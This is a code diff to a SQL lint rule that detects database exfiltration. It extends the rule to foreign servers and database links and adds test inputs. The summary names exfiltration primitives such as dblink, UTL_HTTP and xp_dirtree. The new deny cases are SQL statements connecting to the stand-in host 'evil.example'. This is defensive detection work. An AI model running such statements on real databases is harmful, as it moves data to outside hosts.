@@ -7,7 +7,7 @@ export default defineRule({
   invariant: 'NO_SQL_EXFILTRATION',
   kinds: ['sql'],
   summary:
-    'dblink/dblink_exec, UTL_HTTP/UTL_INADDR/UTL_TCP, HTTPURITYPE, xp_dirtree/xp_fileexist (UNC), url(), FEDERATED tables.',
+    'dblink/dblink_exec, UTL_HTTP/UTL_INADDR/UTL_TCP, HTTPURITYPE, xp_dirtree/xp_fileexist (UNC), url(), FEDERATED tables, foreign servers (CREATE SERVER ... postgres_fdw/mysql) and database links.',
   remediationHint:
     'Do not make the database connect to other hosts. Query each database directly through the application with its own credentials, and move data through the workspace.',
   *check(facts) {
@@ -15,7 +15,10 @@ export default defineRule({
       if (s.connectsTo !== undefined) {
         yield {
           span: s.span,
-          reason: 'a FEDERATED table makes the database connect to a remote server',
+          reason:
+            s.connectsTo === 'FEDERATED' || s.connectsTo.includes('://')
+              ? 'a FEDERATED table makes the database connect to a remote server'
+              : `the statement makes the database connect to ${s.connectsTo} (foreign server or database link)`,
           suggestedAlternative: null,
         };
         continue;
@@ -42,6 +45,12 @@ export default defineRule({
         input: "CREATE TABLE f (id INT) ENGINE=FEDERATED CONNECTION='mysql://u:p@203.0.113.7:3306/db/t'",
         runtime: 'sql',
       },
+      {
+        input:
+          "CREATE SERVER evil FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host 'evil.example', dbname 'x')",
+        runtime: 'sql',
+      },
+      { input: "CREATE DATABASE LINK l CONNECT TO u IDENTIFIED BY p USING 'evil.example/x'", runtime: 'sql' },
     ],
     allow: [
       { input: 'SELECT url FROM links WHERE id = 3', runtime: 'sql', why: 'a column named url' },
